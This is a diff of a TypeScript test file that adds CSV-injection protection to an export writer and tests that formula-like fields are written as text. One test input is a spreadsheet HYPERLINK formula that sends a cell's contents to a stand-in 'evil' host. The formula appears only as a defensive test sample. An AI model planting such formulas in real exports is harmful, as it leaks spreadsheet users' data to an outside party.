@@ -6,8 +6,16 @@ import { csvLines } from './csv.js';
 // The export's CSV used to come from csv-stringify (record_delimiter 'windows'), which left a bare CR or
 // LF inside a field unquoted (RFC 4180 quotes any line break); the writer quotes them, as csv-stringify
 // does with quote_record_delimiter, and is otherwise byte for byte what it wrote.
+// A text field a spreadsheet would take for a formula gets a leading apostrophe (CSV injection).
+const formulaSafe = (field: unknown) =>
+  typeof field === 'string' && /^[=+\-@\t\r]/.test(field) && !/^[+-]?\d+(?:\.\d+)?$/.test(field)
+    ? `'${field}`
+    : field;
 const reference = (rows: unknown[][]) =>
-  stringify(rows, { record_delimiter: 'windows', quote_record_delimiter: true });
+  stringify(
+    rows.map((row) => row.map(formulaSafe)),
+    { record_delimiter: 'windows', quote_record_delimiter: true },
+  );
 
 describe('export CSV lines', () => {
   it('quote and escape what needs it, and nothing else', () => {
@@ -20,7 +28,17 @@ describe('export CSV lines', () => {
     expect(csvLines([['a,b', 'say "hi"']])).toBe('"a,b","say ""hi"""\r\n');
   });
 
-  it('write what csv-stringify wrote for any strings, integers and nulls', () => {
+  it('write a field that would start a spreadsheet formula as text, and numbers as numbers', () => {
+    const formulas = ['=HYPERLINK("http://evil/?"&A1,"x")', '@SUM(A1)', '+1+2', '-2+3', '\tx', 'a=b'];
+    expect(csvLines([formulas])).toBe(
+      `"'=HYPERLINK(""http://evil/?""&A1,""x"")",'@SUM(A1),'+1+2,'-2+3,'\tx,a=b\r\n`,
+    );
+    expect(csvLines([[-500, '-500', '+8613800000000', '-1.25', 42]])).toBe(
+      '-500,-500,+8613800000000,-1.25,42\r\n',
+    );
+  });
+
+  it('write what csv-stringify wrote for any strings, integers and nulls (formulas made text)', () => {
     const field = fc.oneof(
       fc.string({ unit: fc.constantFrom('a', 'Z', '9', ',', '"', '\r', '\n', ' ', '中', "'", '=', '-') }),
       fc.string(),
